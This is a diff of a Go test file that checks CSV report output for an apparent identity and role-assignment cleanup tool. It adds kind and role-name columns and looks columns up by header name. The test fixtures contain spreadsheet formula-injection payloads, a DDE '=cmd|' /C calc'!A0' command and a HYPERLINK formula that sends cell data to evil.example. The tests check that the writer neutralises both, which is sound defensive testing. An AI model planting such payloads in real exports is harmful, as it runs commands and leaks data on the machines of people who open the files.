@@ -57,12 +57,12 @@ func reportItems() []job.Item {
 	at := time.Date(2025, 3, 14, 10, 0, 0, 123456789, time.FixedZone("CET", 3600))
 	items := []job.Item{
 		{PrincipalID: "b0000000-0000-0000-0000-000000000002", UPN: "=bob@contoso.example", Reference: "+HR-2",
-			Source: "groups", AssignmentID: "g1", Scope: "/", State: job.Failed,
+			Source: "groups", Kind: job.KindGroupMember, AssignmentID: "g1", RoleName: "=cmd|' /C calc'!A0", Scope: "/", State: job.Failed,
 			Detail: "-Authorization_RequestDenied: \"no\", says Graph", Attempts: 3, UpdatedAt: at},
 		{PrincipalID: "b0000000-0000-0000-0000-000000000002", UPN: "@bob", Reference: "HR-2",
-			Source: "directory", AssignmentID: "a9", RoleDefinitionID: "62e90394-69f5-4237-9190-012177145e10",
-			Scope: "/", State: job.Removed, Attempts: 1, UpdatedAt: at},
-		{PrincipalID: "b0000000-0000-0000-0000-000000000002", Source: "directory", AssignmentID: "a10",
+			Source: "directory", Kind: job.KindDirectoryRole, AssignmentID: "a9", RoleDefinitionID: "62e90394-69f5-4237-9190-012177145e10",
+			RoleName: "Global Administrator", Scope: "/", State: job.Removed, Attempts: 1, UpdatedAt: at},
+		{PrincipalID: "b0000000-0000-0000-0000-000000000002", Source: "directory", Kind: job.KindDirectoryRole, AssignmentID: "a10",
 			Scope: "/administrativeUnits/x", State: job.Skipped, Detail: "\tprotected", UpdatedAt: at},
 		{PrincipalID: "a0000000-0000-0000-0000-000000000001", Reference: "line one\nline two", State: job.NoAssignments,
 			Detail: "\rcr", UpdatedAt: at},
@@ -71,17 +71,17 @@ func reportItems() []job.Item {
 		{PrincipalID: "", State: job.Invalid, Line: 3, Reference: "-3", Detail: "line 3: bad date", UpdatedAt: at},
 		// An assignment id the services hand out is written as it is;
 		// its role definition id and scope are neutralised (issue 24).
-		{PrincipalID: "c0000000-0000-0000-0000-000000000003", Source: "azure",
+		{PrincipalID: "c0000000-0000-0000-0000-000000000003", Source: "azure", Kind: job.KindAzureRole,
 			AssignmentID:     "-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r",
 			RoleDefinitionID: "+/providers/x", Scope: "=/subscriptions/s", State: job.Planned, Detail: "M\xfcller"},
 		// A refused row as the planner puts it: every cell from the
 		// service neutralised.
-		{PrincipalID: "f0000000-0000-0000-0000-000000000006", Source: "directory", AssignmentID: "=cmd|' /C calc'!A0",
+		{PrincipalID: "f0000000-0000-0000-0000-000000000006", Source: "directory", Kind: job.KindDirectoryRole, AssignmentID: "=cmd|' /C calc'!A0",
 			RoleDefinitionID: "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")", Scope: "=1+2",
 			State: job.Failed, Detail: job.UnexpectedID, UpdatedAt: at},
-		{PrincipalID: "f0000000-0000-0000-0000-000000000006", Source: "groups", AssignmentID: "0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f",
+		{PrincipalID: "f0000000-0000-0000-0000-000000000006", Source: "groups", Kind: job.KindGroupMember, AssignmentID: "0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f",
 			RoleDefinitionID: "@SUM(1)", Scope: "\t/x", State: job.Failed, Detail: "=group name from Graph", UpdatedAt: at},
-		{PrincipalID: "d0000000-0000-0000-0000-000000000004", UPN: "dee@contoso.example", Source: "pim",
+		{PrincipalID: "d0000000-0000-0000-0000-000000000004", UPN: "dee@contoso.example", Source: "pim", Kind: job.KindDirectoryRoleEligibility,
 			AssignmentID: "e1", State: job.AlreadyAbsent, Detail: "confirmed absent on rerun", Attempts: 0, UpdatedAt: at},
 		{PrincipalID: "e0000000-0000-0000-0000-000000000005", State: job.Deferred, Line: 12, Detail: "effective 2099-01-01", UpdatedAt: at},
 	}
@@ -127,7 +127,7 @@ func TestWriteReportGolden(t *testing.T) {
 
 func TestWriteReportShape(t *testing.T) {
 	got := writeReport(t, reportItems())
-	const head = "principal_id,user_principal_name,reference,source,assignment_id,role_definition_id,scope,status,detail,attempts,updated_at\n"
+	const head = "principal_id,user_principal_name,reference,source,kind,assignment_id,role_definition_id,role_name,scope,status,detail,attempts,updated_at\n"
 	if !strings.HasPrefix(string(got), head) {
 		t.Fatalf("report.csv does not start with the contract's header: %q", got)
 	}
@@ -138,6 +138,8 @@ func TestWriteReportShape(t *testing.T) {
 	if err != nil {
 		t.Fatalf("report.csv does not read back as CSV: %v", err)
 	}
+	names := rows[0]
+	col := func(name string) int { return slices.Index(names, name) }
 	rows = rows[1:]
 	if len(rows) != len(reportItems()) {
 		t.Fatalf("%d rows, want %d", len(rows), len(reportItems()))
@@ -145,7 +147,7 @@ func TestWriteReportShape(t *testing.T) {
 	// Sorted by principal_id, source, assignment_id, then input line.
 	var order []string
 	for _, r := range rows {
-		order = append(order, r[0]+"|"+r[3]+"|"+r[4])
+		order = append(order, r[0]+"|"+r[col("source")]+"|"+r[col("assignment_id")])
 	}
 	wantOrder := []string{
 		"||", "||", // invalid rows without an id: line 3, then line 9
@@ -163,41 +165,44 @@ func TestWriteReportShape(t *testing.T) {
 	if !slices.Equal(order, wantOrder) {
 		t.Errorf("row order:\n%q\nwant\n%q", order, wantOrder)
 	}
-	if rows[0][8] != "line 3: bad date" || rows[0][2] != "'-3" {
+	if rows[0][col("detail")] != "line 3: bad date" || rows[0][2] != "'-3" {
 		t.Errorf("first invalid row = %q", rows[0])
 	}
 	byID := map[string][]string{}
 	for _, r := range rows {
-		byID[r[0]+"|"+r[4]] = r
+		byID[r[0]+"|"+r[col("assignment_id")]] = r
 	}
 	checks := []struct {
 		row      string
-		col      int
+		col      string
 		want     string
 		whatItIs string
 	}{
-		{"b0000000-0000-0000-0000-000000000002|g1", 1, "'=bob@contoso.example", "upn ="},
-		{"b0000000-0000-0000-0000-000000000002|g1", 2, "'+HR-2", "reference +"},
-		{"b0000000-0000-0000-0000-000000000002|g1", 8, "'-Authorization_RequestDenied: \"no\", says Graph", "detail - with quotes and comma"},
-		{"b0000000-0000-0000-0000-000000000002|g1", 9, "3", "attempts"},
-		{"b0000000-0000-0000-0000-000000000002|g1", 10, "2025-03-14T09:00:00Z", "updated_at in UTC, seconds"},
-		{"b0000000-0000-0000-0000-000000000002|a9", 1, "'@bob", "upn @"},
-		{"b0000000-0000-0000-0000-000000000002|a10", 8, "'\tprotected", "detail tab"},
-		{"a0000000-0000-0000-0000-000000000001|", 8, "'\rcr", "detail CR"},
-		{"a0000000-0000-0000-0000-000000000001|", 2, "line one\nline two", "reference with a newline"},
-		{"'=HYPERLINK(\"x\")|", 7, "invalid", "invalid row's id neutralised"},
-		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", 4, "-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", "a checked assignment id as it is"},
-		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", 5, "'+/providers/x", "role definition id neutralised"},
-		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", 6, "'=/subscriptions/s", "scope neutralised"},
-		{"f0000000-0000-0000-0000-000000000006|'=cmd|' /C calc'!A0", 4, "'=cmd|' /C calc'!A0", "refused assignment id"},
-		{"f0000000-0000-0000-0000-000000000006|'=cmd|' /C calc'!A0", 5, "'=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")", "refused role definition id"},
-		{"f0000000-0000-0000-0000-000000000006|'=cmd|' /C calc'!A0", 6, "'=1+2", "refused directory scope id"},
-		{"f0000000-0000-0000-0000-000000000006|0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f", 5, "'@SUM(1)", "role definition id @"},
-		{"f0000000-0000-0000-0000-000000000006|0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f", 6, "'\t/x", "scope tab"},
-		{"f0000000-0000-0000-0000-000000000006|0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f", 8, "'=group name from Graph", "detail from a service"},
-		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", 10, "", "zero time"},
-		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", 8, "M\uFFFDller", "invalid UTF-8 replaced"},
-		{"d0000000-0000-0000-0000-000000000004|e1", 9, "0", "zero attempts"},
+		{"b0000000-0000-0000-0000-000000000002|g1", "user_principal_name", "'=bob@contoso.example", "upn ="},
+		{"b0000000-0000-0000-0000-000000000002|g1", "reference", "'+HR-2", "reference +"},
+		{"b0000000-0000-0000-0000-000000000002|g1", "detail", "'-Authorization_RequestDenied: \"no\", says Graph", "detail - with quotes and comma"},
+		{"b0000000-0000-0000-0000-000000000002|g1", "attempts", "3", "attempts"},
+		{"b0000000-0000-0000-0000-000000000002|g1", "updated_at", "2025-03-14T09:00:00Z", "updated_at in UTC, seconds"},
+		{"b0000000-0000-0000-0000-000000000002|a9", "user_principal_name", "'@bob", "upn @"},
+		{"b0000000-0000-0000-0000-000000000002|a10", "detail", "'\tprotected", "detail tab"},
+		{"a0000000-0000-0000-0000-000000000001|", "detail", "'\rcr", "detail CR"},
+		{"a0000000-0000-0000-0000-000000000001|", "reference", "line one\nline two", "reference with a newline"},
+		{"'=HYPERLINK(\"x\")|", "status", "invalid", "invalid row's id neutralised"},
+		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", "assignment_id", "-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", "a checked assignment id as it is"},
+		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", "role_definition_id", "'+/providers/x", "role definition id neutralised"},
+		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", "scope", "'=/subscriptions/s", "scope neutralised"},
+		{"f0000000-0000-0000-0000-000000000006|'=cmd|' /C calc'!A0", "assignment_id", "'=cmd|' /C calc'!A0", "refused assignment id"},
+		{"f0000000-0000-0000-0000-000000000006|'=cmd|' /C calc'!A0", "role_definition_id", "'=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")", "refused role definition id"},
+		{"f0000000-0000-0000-0000-000000000006|'=cmd|' /C calc'!A0", "scope", "'=1+2", "refused directory scope id"},
+		{"f0000000-0000-0000-0000-000000000006|0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f", "role_definition_id", "'@SUM(1)", "role definition id @"},
+		{"f0000000-0000-0000-0000-000000000006|0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f", "scope", "'\t/x", "scope tab"},
+		{"f0000000-0000-0000-0000-000000000006|0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f", "detail", "'=group name from Graph", "detail from a service"},
+		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", "updated_at", "", "zero time"},
+		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", "detail", "M\uFFFDller", "invalid UTF-8 replaced"},
+		{"d0000000-0000-0000-0000-000000000004|e1", "attempts", "0", "zero attempts"},
+		{"b0000000-0000-0000-0000-000000000002|a9", "kind", "directory-role", "kind"},
+		{"b0000000-0000-0000-0000-000000000002|a9", "role_name", "Global Administrator", "role name"},
+		{"b0000000-0000-0000-0000-000000000002|g1", "role_name", "'=cmd|' /C calc'!A0", "a group's name from the service, neutralised"},
 	}
 	for _, c := range checks {
 		r, ok := byID[c.row]
@@ -205,8 +210,8 @@ func TestWriteReportShape(t *testing.T) {
 			t.Errorf("no row %q", c.row)
 			continue
 		}
-		if r[c.col] != c.want {
-			t.Errorf("%s: cell %s = %q, want %q", c.whatItIs, header[c.col], r[c.col], c.want)
+		if r[col(c.col)] != c.want {
+			t.Errorf("%s: cell %s = %q, want %q", c.whatItIs, c.col, r[col(c.col)], c.want)
 		}
 	}
 	// Quoted cells are written the RFC 4180 way.
